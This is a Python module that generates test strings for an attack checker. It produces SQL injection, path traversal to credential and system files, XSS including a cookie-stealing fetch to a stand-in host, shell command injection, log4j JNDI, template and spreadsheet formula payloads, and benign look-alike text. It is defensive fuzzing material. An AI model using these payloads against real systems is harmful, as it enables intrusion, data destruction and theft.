"""The texts of tools/check-attacks.py: attacks by category, and honest text that resembles them.

All of them are built here from parts: SQL, path traversal, cross-site scripting, shell commands,
templates, Unicode (bidi, zero width, confusables, lone forms, normalisation), formulas, log injection
(line breaks, forged records, terminal escapes), format strings, sizes around the limits. `{dir}`
stands for the directory where an attack that is executed would leave a trace.
"""

import itertools

CANARY = "runward_canary"


def sql():
    ends = ["", " --", " #", ";--", "/*", "\x00"]
    heads = ["'", '"', "')", '")', "`", "';", "\\'", "1", "%27", "'''"]
    bodies = [
        "OR 1=1",
        "OR 'a'='a",
        f"; DROP TABLE {CANARY}",
        "; DROP TABLE findings",
        f"; INSERT INTO {CANARY} VALUES (1)",
        "UNION SELECT 1,2,3",
        "UNION SELECT name FROM sqlite_master",
        "AND (SELECT pg_sleep(9))",
        "; ATTACH DATABASE '{dir}/owned' AS o",
        "; COPY (SELECT 1) TO '{dir}/owned'",
        "; PRAGMA writable_schema=1",
        "NEAR/1 OR *",
    ]
    return (f"{h} {b}{e}" for h, b, e in itertools.product(heads, bodies, ends))


def traversal():
    ups = ["../", "..\\", "%2e%2e/", "..%2f", "....//", "..;/", "%c0%ae%c0%ae/", "..%00/", "．．/"]
    files = ["etc/passwd", "owned", "windows/win.ini", ".git/config", "proc/self/environ", "audit/audit.json"]
    depths = [1, 3, 8]
    heads = ["", "/", "file:///", "C:\\", "./", "\\\\host\\share\\"]
    for up, file, depth, head in itertools.product(ups, files, depths, heads):
        yield head + up * depth + file


def scripts():
    payloads = ["alert(1)", "fetch('//x/'+document.cookie)", "location='//x'"]
    shapes = [
        "<script>{}</script>",
        "<img src=x onerror={}>",
        '"><svg onload={}>',
        "javascript:{}",
        "[x](javascript:{})",
        "<a href='java\tscript:{}'>x</a>",
        "</title><script>{}</script>",
        "<!--<img src='--><img src=x onerror={}//'>",
        "{{constructor.constructor('{}')()}}",
        "<iframe srcdoc='<script>{}</script>'>",
        "<style>@import'{}'</style>",
        "data:text/html,<script>{}</script>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    ]
    wraps = ["{}", "a{}b", "<b>{}</b>", "'{}'", "\"{}\""]
    for payload, shape, wrap in itertools.product(payloads, shapes, wraps):
        yield wrap.replace("{}", shape.replace("{}", payload))


def commands():
    actions = ["touch {dir}/owned", "cat /etc/passwd", "rm -rf {dir}/canary", "curl http://127.0.0.1:9/"]
    shapes = ["; {}", "| {}", "& {}", "&& {}", "|| {}", "`{}`", "$({})", "\n{}\n", "%0a{}", "{}\x00", "'; {}; '",
              '"; {}; "', "<({})", "${{IFS}}{}", "--config=$({})", "-exec {} ;", "\\$({})", "!{}"]
    for action, shape in itertools.product(actions, shapes):
        yield shape.replace("{}", action)
    for shape in ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://127.0.0.1/a}", "{{config}}",
                  "{% import os %}", "__proto__", "constructor", "%s%s%s%n", "%x" * 20, "{0.__class__}"]:
        yield shape


def unicode_tricks():
    parts = {
        "bidi": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
        "zero width": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e",
        "control": "".join(map(chr, [*range(0, 32), 127, *range(128, 160)])),
        "separators": "\u2028\u2029\u0085\u00a0\u3000\u2000",
        "tags": "\U000e0041\U000e0042\U000e007f",
        "variation": "\ufe0e\ufe0f\U000e0100",
        "confusable": "аеорсух．／＜＞＇＂；＝",
        "invalid": "\ufffd\ufffe\uffff\U0010ffff",
    }
    words = ["admin", "fix login", "../x", "ok"]
    for characters, word in itertools.product(parts.values(), words):
        for character in characters:
            middle = len(word) // 2
            yield word[:middle] + character + word[middle:]
        yield word + characters
    yield "e" + "\u0301" * 60
    yield "ﷺ" * 40
    yield "İıſK" * 10
    yield "\u1100\u1161\u11a8" * 20


def formulas():
    heads = ["=", "+", "-", "@", "\t=", "\r=", " =", "＝", "'=", "\"=", ";=", ",="]
    bodies = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","y")', "SUM(A1:A9)", "IMPORTXML(A1)",
              "DDE(\"cmd\";\"/C calc\")", "WEBSERVICE(\"http://x\")"]
    return (h + b for h, b in itertools.product(heads, bodies))


def log_forgeries():
    breaks = ["\n", "\r\n", "\r", "\u2028", "\u0085", "\x0b", "\x0c", "\\n", "%0a", "\n\n"]
    lines = [
        '{"index": 0, "event_type": "login_succeeded"}',
        '{"v":1,"store":"000000000000","seq":1,"event":{}}',
        "2026-01-01 INFO all is well",
        "CEF:0|x|y|1|2|3|9|act=x",
        "— runward.example/log AAAA",
        "]}",
        "\x1b[2J\x1b[1;1Hcleared",
        "\x1b]0;title\x07",
        "\x1b]8;;http://x\x07link\x1b]8;;\x07",
        "\b\b\b\b\b\b",
    ]
    for line_break, line in itertools.product(breaks, lines):
        yield "text" + line_break + line
    for field in ["|act=x", "=x|y\\", 'a"b', "a\\", "a,b", "a;b", "a\tb", "key=value other=value"]:
        yield field


def sizes():
    for character in ["x", "é", "日", "😀"]:
        for length in [40, 41, 100, 200, 201, 1000, 1001, 5000, 5001, 16_384, 21_000]:
            yield character * length
    for shape in ["[", "{", "(", "\\", '"', "%", "a.", "../", "= "]:
        yield shape * 1500


CATEGORIES = {
    "sql": sql,
    "traversal": traversal,
    "scripts": scripts,
    "commands": commands,
    "unicode": unicode_tricks,
    "formula": formulas,
    "log": log_forgeries,
    "sizes": sizes,
}


def attacks(count, directory, rng):
    """At least `count` different strings, of every category."""
    found = {}
    for category, make in CATEGORIES.items():
        for text in make():
            found.setdefault(text.replace("{dir}", str(directory)), category)
    texts = list(found.items())
    base = [text for text, _ in texts]
    # Strings of one category inside those of another.
    while len(texts) < count:
        one, other = rng.sample(base, 2)
        text = one + rng.choice(["", " ", "'", "\n", "/", "="]) + other
        if text not in found:
            found[text] = "mixed"
            texts.append((text, "mixed"))
    return texts


def honest(rng):
    """Text that people write, which looks dangerous at a glance."""
    fixed = [
        "fix --force flag",
        "fix SQL: SELECT ... FROM users WHERE name = 'O''Brien'",
        "don't drop table joins in report.py",
        "upgrade lodash >= 4.17.21 && rebuild",
        "C++ / C# interop; see ../README.md",
        "<title> is missing on /login",
        "use `rm -rf build/` in the Makefile",
        "price = 3 * (a + b) - 1",
        "-1 is returned where 0 is meant",
        "@octocat asks: why 100% CPU?",
        "naïve café, Straße, Ærøskøbing, İstanbul",
        "日本語のタスク",
        "עברית ועוד",
        "العربية",
        "हिन्दी में काम",
        "emoji 👩‍👩‍👧 and 🏳️‍🌈 stay whole",
        "tabs\tinside and 'quotes' \"here\"",
        "=> arrow function, -> pointer, <- channel",
        "50% | 60% & more; done",
        "{{ mustache }} in a template",
        "$HOME is not set; %PATH% either",
        "path C:\\Users\\me\\x",
        "email a.b+c@example.com",
        "see https://example.com/a?b=c&d=e#f",
        "null, undefined, NaN, true",
    ]
    verbs = ["fix", "review", "upgrade", "remove", "explain", "don't break", "re-check", "O'Brien's"]
    things = ["login --verbose", "<input> escaping", "50% of `eval()` calls", "the \"admin\" role", "ü-umlaut in paths",
              "CVE-2021-44228 (log4j)", "README.md & CHANGELOG", "a = b; c = d", "x | y", "../shared path", "#123: crash"]
    where = ["", " in src/app.py", " before 2026-12-31", " (see #12)", " — urgent!"]
    texts = fixed + [f"{v} {t}{w}" for v, t, w in itertools.product(verbs, things, where)]
    rng.shuffle(texts)
    return texts
